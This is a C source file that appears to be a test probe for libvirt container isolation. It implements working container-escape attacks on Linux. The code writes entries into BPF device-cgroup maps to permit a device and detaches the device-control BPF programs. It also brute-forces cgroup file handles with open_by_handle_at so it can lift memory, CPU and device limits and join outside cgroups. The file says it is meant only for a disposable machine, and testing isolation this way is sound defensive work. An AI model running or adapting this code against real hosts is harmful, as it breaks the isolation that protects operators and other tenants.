/* SPDX-License-Identifier: LGPL-2.1-or-later
 *
 * Attacks on the device list and the limits of a container that do not go
 * through a directory of cgroups that the container sees. To be started by the
 * probe's deed "exec", as "attack one LABEL maps|detach|handles DEVICE".
 *
 * It writes to whatever it can reach: only for a machine that is thrown away.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

/* The kernel numbers cgroups as they come. */
#define LAST_HANDLE 100000

static const char *const lifts[][2] = {
    {"memory.max", "max"},  {"memory.limit_in_bytes", "-1"},
    {"cpu.max", "max"},     {"cpu.cfs_quota_us", "-1"},
    {"devices.allow", "a"},
};

static const char *label;
static int opened;
static int lifted;
static int detached;
static int joined;

static const char *
outcome(int rc)
{
    return rc >= 0 ? "OK" : strerrorname_np(errno);
}

static int
bpf(int command, union bpf_attr *attr)
{
    return syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static void
deviceOpen(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);

    printf("%s.device=%s\n", label, outcome(fd));
    if (fd >= 0)
        close(fd);
}

static uint32_t
idNext(int command, uint32_t id)
{
    union bpf_attr attr = {.start_id = id};

    return bpf(command, &attr) < 0 ? 0 : attr.next_id;
}

/* Adds the device to each table that looks like libvirt's list of devices:
 * major and minor number, then access and type. */
static void
mapsWrite(const char *path)
{
    struct stat sb;
    uint64_t key;
    uint32_t value;
    int found = 0;
    int written = 0;

    if (stat(path, &sb) < 0)
        return;
    key = (uint64_t)major(sb.st_rdev) << 32 | minor(sb.st_rdev);
    value = 7 << 16 |
            (S_ISBLK(sb.st_mode) ? BPF_DEVCG_DEV_BLOCK : BPF_DEVCG_DEV_CHAR);
    for (uint32_t id = 0; (id = idNext(BPF_MAP_GET_NEXT_ID, id)) != 0;) {
        struct bpf_map_info info = {0};
        union bpf_attr get = {.map_id = id};
        int fd = bpf(BPF_MAP_GET_FD_BY_ID, &get);
        union bpf_attr ask = {.info = {.bpf_fd = fd,
                                       .info_len = sizeof(info),
                                       .info = (uintptr_t)&info}};
        union bpf_attr update = {
            .map_fd = fd, .key = (uintptr_t)&key, .value = (uintptr_t)&value};

        if (fd < 0 || bpf(BPF_OBJ_GET_INFO_BY_FD, &ask) < 0)
            continue;
        found++;
        if (info.type == BPF_MAP_TYPE_HASH && info.key_size == sizeof(key) &&
            info.value_size == sizeof(value))
            written += bpf(BPF_MAP_UPDATE_ELEM, &update) == 0;
        close(fd);
    }
    printf("%s.found=%d\n%s.written=%d\n", label, found, label, written);
}

/* Detaches each program of the kernel from the cgroup; returns how many. */
static int
programsDetach(int cgroup)
{
    int count = 0;

    for (uint32_t id = 0; (id = idNext(BPF_PROG_GET_NEXT_ID, id)) != 0;) {
        union bpf_attr get = {.prog_id = id};
        int fd = bpf(BPF_PROG_GET_FD_BY_ID, &get);
        union bpf_attr detach = {.target_fd = cgroup,
                                 .attach_bpf_fd = fd,
                                 .attach_type = BPF_CGROUP_DEVICE};

        if (fd < 0)
            continue;
        count += bpf(BPF_PROG_DETACH, &detach) == 0;
        close(fd);
    }
    return count;
}

static void
detach(void)
{
    int cgroup = open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    union bpf_attr any = {.target_fd = cgroup,
                          .attach_type = BPF_CGROUP_DEVICE};

    printf("%s.any=%s\n", label, outcome(bpf(BPF_PROG_DETACH, &any)));
    printf("%s.detached=%d\n", label, programsDetach(cgroup));
}

static int
fileWrite(int dir, const char *name, const char *value)
{
    int fd = openat(dir, name, O_WRONLY | O_CLOEXEC);
    int rc = fd < 0 ? -1 : write(fd, value, strlen(value));

    if (fd >= 0)
        close(fd);
    return rc < 0 ? 0 : 1;
}

/* A handle names a cgroup by its number, wherever that is in the hierarchy. */
static void
handlesOpen(const char *top)
{
    size_t i;

    struct {
        struct file_handle head;
        uint64_t number;
    } handle = {.head = {.handle_bytes = 8}};
    int mountId;
    int dir = open(top, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    uint64_t own;

    if (name_to_handle_at(dir, "", &handle.head, &mountId, AT_EMPTY_PATH) < 0) {
        printf("%s.name:%s=%s\n", label, top, outcome(-1));
        return;
    }
    own = handle.number;
    for (uint64_t number = 1; number < LAST_HANDLE; number++) {
        int fd;

        handle.number = number;
        if (number == own)
            continue;
        fd = open_by_handle_at(dir, &handle.head, O_RDONLY | O_DIRECTORY);
        if (fd < 0) {
            if (errno == EPERM)
                break;
            continue;
        }
        opened++;
        for (i = 0; i < sizeof(lifts) / sizeof(lifts[0]); i++)
            lifted += fileWrite(fd, lifts[i][0], lifts[i][1]);
        detached += programsDetach(fd);
        joined += fileWrite(fd, "cgroup.procs", "0");
        close(fd);
    }
    close(dir);
}

static void
handles(void)
{
    char line[4096];
    char top[1024];
    FILE *mounts = fopen("/proc/self/mountinfo", "re");

    while (mounts && fgets(line, sizeof(line), mounts)) {
        const char *type = strstr(line, " - ");

        if (type && strncmp(type + 3, "cgroup", 6) == 0 &&
            sscanf(line, "%*d %*d %*s %*s %1023s", top) == 1)
            handlesOpen(top);
    }
    if (mounts)
        fclose(mounts);
    printf("%s.opened=%d\n%s.lifted=%d\n%s.detached=%d\n%s.joined=%d\n", label,
           opened, label, lifted, label, detached, label, joined);
}

int
main(int argc, char **argv)
{
    if (argc != 5)
        return 2;
    label = argv[2];
    if (strcmp(argv[3], "maps") == 0)
        mapsWrite(argv[4]);
    else if (strcmp(argv[3], "detach") == 0)
        detach();
    else
        handles();
    deviceOpen(argv[4]);
    return 0;
}
